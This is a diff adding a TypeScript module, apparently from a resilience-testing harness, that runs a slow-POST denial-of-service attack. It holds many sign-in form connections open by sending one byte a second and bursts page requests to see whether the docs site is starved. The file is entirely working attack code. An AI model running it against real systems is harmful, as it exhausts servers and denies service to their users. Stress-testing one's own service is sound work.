@@ -1,0 +1,66 @@
+import { atRate } from "../at-rate.ts";
+import { openSocket, openSockets } from "../sockets.ts";
+import { type Attack, createTally } from "./attack.ts";
+
+/** How often the pages are requested again. */
+const BURST_INTERVAL_MS = 20_000;
+const FORM_BYTES = 4_000;
+const PAGES = ["/", "/console/sign-in", "/errors/rate_limited", "/reference", "/openapi.json"];
+
+/**
+ * H2: sign-in forms whose bodies come a byte at a time hold the way to the portal, and pages of the docs host that wait
+ * behind them hold places.
+ */
+export function slowForms({ forms, pages }: { forms: number; pages: number }): Attack {
+  return {
+    name: "slow-forms",
+    about: `${forms} sign-in forms are sent a byte at a time, beside ${pages.toLocaleString("en")} requests for pages`,
+    docsMayFail: true,
+    async run(target, signal) {
+      const tally = createTally();
+      const { docsHost, docsUrl } = target;
+      const head =
+        `POST /console/sign-in HTTP/1.1\r\nHost: ${docsHost}\r\nOrigin: ${docsUrl}\r\n` +
+        `Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${FORM_BYTES}\r\n\r\ntoken=`;
+      const sendForm = async () => {
+        const socket = await openSocket(target);
+        if (!socket) return null;
+        tally.add("forms");
+        socket.resume().write(head);
+        return socket;
+      };
+      const sockets = await Promise.all(Array.from({ length: forms }, sendForm));
+      const getPage = async (turn: number) => {
+        const [socket] = await openSockets(target, 1);
+        if (!socket) return tally.add("pages without a connection");
+        signal.addEventListener("abort", () => socket.destroy());
+        socket.write(
+          `GET ${PAGES[turn % PAGES.length]} HTTP/1.1\r\nHost: ${docsHost}\r\nAccept: text/html\r\nConnection: close\r\n\r\n`,
+        );
+        let status = "";
+        socket.on("data", (bytes: Buffer) => (status ||= bytes.toString("latin1", 9, 12)));
+        socket.once("close", () => tally.add(status === "" ? "pages unanswered" : `pages answered ${status}`));
+      };
+      const burst = () => {
+        for (let turn = 0; turn < pages; turn += 1) void getPage(turn);
+      };
+      burst();
+      const bursts = setInterval(burst, BURST_INTERVAL_MS);
+      // Every form gets a byte a second; one that was refused is sent again.
+      await atRate(forms, signal, (turn) => {
+        const index = turn % forms;
+        const socket = sockets[index];
+        if (socket && !socket.destroyed) return void socket.write("x");
+        if (socket === undefined) return;
+        tally.add("forms refused");
+        sockets[index] = undefined as never;
+        void sendForm().then((opened) => {
+          sockets[index] = opened;
+        });
+      });
+      clearInterval(bursts);
+      for (const socket of sockets) socket?.destroy();
+      return { tally: tally.counts, problems: [] };
+    },
+  };
+}
